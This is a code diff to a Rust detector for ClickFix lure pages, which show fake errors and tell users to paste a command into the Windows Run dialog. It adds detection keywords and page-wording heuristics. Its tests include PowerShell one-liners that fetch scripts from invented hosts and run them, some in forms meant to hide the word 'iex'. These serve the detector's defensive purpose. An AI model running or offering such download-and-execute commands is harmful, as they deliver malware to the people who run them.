@@ -50,6 +50,9 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
+/// Weight that marks a `fix_pretext` phrase as the page's own failure ("failed to load", "could
+/// not be displayed", "an error occurred"): a kit's fake error, never a help page's problem.
+const PAGE_FAILURE: f32 = 0.9;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -201,6 +204,10 @@ impl Command {
                 | Shape::MsiexecUrl
                 | Shape::PipeToShell
                 | Shape::DownloadExec => true,
+                // A curl/wget download run: only the page's own installer, named for the site
+                // (`QuillNoteSetup.exe` on quillnote.example; a kit on a broken-into site saves
+                // `r.exe`: review 33 m42-m44), shown, under the page's own install words, about no
+                // video or meeting (a lure's reason to install).
                 Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
                     .iter()
                     .any(|w| has(&self.flat, w)),
@@ -860,9 +867,20 @@ fn shapes(flat: &str) -> Vec<Shape> {
 
     // PowerShell: flags can be abbreviated to any unambiguous prefix.
     let ps = prog("powershell") || prog("pwsh");
-    let ps_exec = ["iex", "invoke-expression", "invoke-command", "icm"]
-        .iter()
-        .any(|w| has_word(flat, w));
+    // (`[scriptblock]::Create(…).Invoke()`, `$ExecutionContext.InvokeCommand.InvokeScript(…)`,
+    // `&(gcm i*x)`: the same run of fetched text without the word `iex`.)
+    let ps_exec = [
+        "iex",
+        "invoke-expression",
+        "invoke-command",
+        "icm",
+        "scriptblock",
+        "invokescript",
+        "gcm",
+        "get-command",
+    ]
+    .iter()
+    .any(|w| has_word(flat, w));
     let ps_fetch = [
         "iwr",
         "irm",
@@ -1494,10 +1512,17 @@ impl PageHits {
             })
             && self.shows(command)
             && self.install_prose()
-            && !"video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
-                 vergadering reunião riunione"
-                .split(' ')
-                .any(|w| has(&self.flat, w))
+            && !self.lure_topic()
+    }
+
+    /// The page names a video, a film or a meeting: a lure's reason to install a player or a
+    /// plugin (review 29 CP-M1).
+    #[inline(never)]
+    fn lure_topic(&self) -> bool {
+        "video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
+         vergadering reunião riunione"
+            .split(' ')
+            .any(|w| has(&self.flat, w))
     }
 
     /// Install documentation, not a lure: the page documents an installation (or shows the
@@ -1553,6 +1578,37 @@ impl PageHits {
                             .contains(['.', '!', '?', '\n', '。', '！', '？', ';', ',', '，', '、'])
                     })
             })
+    }
+
+    /// A failure the page quotes, asks about or lists as a known issue, not one it claims
+    /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?",
+    /// "Known issue: …"): a help page's topic. A quote opened in the failure's clause before it
+    /// (a name quoted there, closed, still counts: review 34 CF34-M1, left); the `?` ends the
+    /// failure's own clause.
+    #[inline(never)]
+    fn described(&self, h: &Hit) -> bool {
+        // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
+        let b = self.base.as_bytes();
+        let from = b[..h.start.min(b.len())]
+            .iter()
+            .rposition(|c| b".!?\n".contains(c))
+            .map_or(0, |i| i + 1);
+        let lead = self.base.get(from..h.start).unwrap_or("");
+        // A quote opened before the failure: a `'` starting a word, or one of `" “ „ ‘ « 「`.
+        let open = lead.bytes().enumerate().any(|(i, c)| {
+            c == b'\''
+                && i.checked_sub(1)
+                    .is_none_or(|j| !lead.as_bytes()[j].is_ascii_alphanumeric())
+        }) || ["\"", "“", "„", "‘", "«", "「"]
+            .iter()
+            .any(|q| has(lead, q));
+        let to = b
+            .get(h.end..)
+            .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)));
+        open || to.is_some_and(|i| b[h.end + i] == b'?')
+            || self
+                .of(Cat::Troubleshooting)
+                .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
     }
 
     /// Install words in the page's own prose, not in a file or path name (a lure's `curl
@@ -1977,8 +2033,16 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // with documentation around it, or a problem asked about, not an error claimed ("Error:
     // this document could not be displayed").
     let install_words = page.weight(Cat::InstallDocs) >= 1.0;
+    // The page's own failure claimed ("the calendar did not load correctly", "Erreur lors du
+    // chargement"): a kit on a broken-into site serving its script from the site's root,
+    // `/static/` or `/download/`, whatever install words it adds; a help page fixes the
+    // reader's software.
     let own_fetch = command.fetches_from_site(&page.site)
-        && (install_words || page.story().all(|h| h.cat != Cat::Error));
+        && page.story().all(|h| match h.cat {
+            Cat::FixPretext => h.weight > PAGE_FAILURE || page.described(h),
+            Cat::Error => install_words,
+            _ => true,
+        });
     let help = install_like
         && (install_words || !command.installs_package())
         && shown
@@ -4514,6 +4578,52 @@ mod tests {
             )),
             None
         );
+    }
+
+    #[test]
+    fn clickfix34_fetched_text_run_without_iex_and_the_pages_own_failure() {
+        // A fetch run through a script block or a looked-up `iex` (invented hosts).
+        for clip in [
+            "[scriptblock]::Create((irm https://doc-open.test/o)).Invoke()",
+            "irm https://sec-check.test/c | &(gcm i*x)",
+            "$ExecutionContext.InvokeCommand.InvokeScript((irm https://sec-check.test/c))",
+        ] {
+            assert!(
+                shapes_of(clip).contains(&Shape::PowerShellDownload),
+                "{clip}"
+            );
+        }
+        // A kit on a broken-into site serves its script from the site itself and claims the page
+        // failed; a help page quotes or asks about a failure of the reader's software.
+        let c = "powershell -c \"irm https://www.lakeside-clinic.example/static/fix.ps1 | iex\"";
+        let run = |url: &str, text: &str| {
+            reasons(&snap_of(
+                url,
+                "",
+                &format!("{text}\nPress Windows + R, paste the line below and press Enter:\n{c}"),
+                c,
+            ))
+        };
+        for text in [
+            "The appointment calendar did not load correctly. How to fix:",
+            "Something went wrong while loading the calendar. To fix it:",
+            "The booking calendar did not load correctly, want it back? Follow these steps:",
+        ] {
+            assert!(
+                run("https://www.lakeside-clinic.example/book", text).is_some(),
+                "{text}"
+            );
+        }
+        for text in [
+            "Lakeside Desk shows \"Something went wrong\" when it starts. Our repair tool clears the cache.",
+            "The desk app cannot display your appointments? Reset its cache.",
+            "If the desk app failed to load after an update, reset its cache.",
+            "Lakeside Desk shows 'Something went wrong' at start.",
+            "Lakeside Desk: ‘Message cannot be displayed’",
+            "Known issue in Lakeside Desk 5.2\nAfter the update the calendar did not load for some customers.",
+        ] {
+            assert_eq!(run("https://www.lakeside-clinic.example/help", text), None, "{text}");
+        }
     }
 
     #[test]
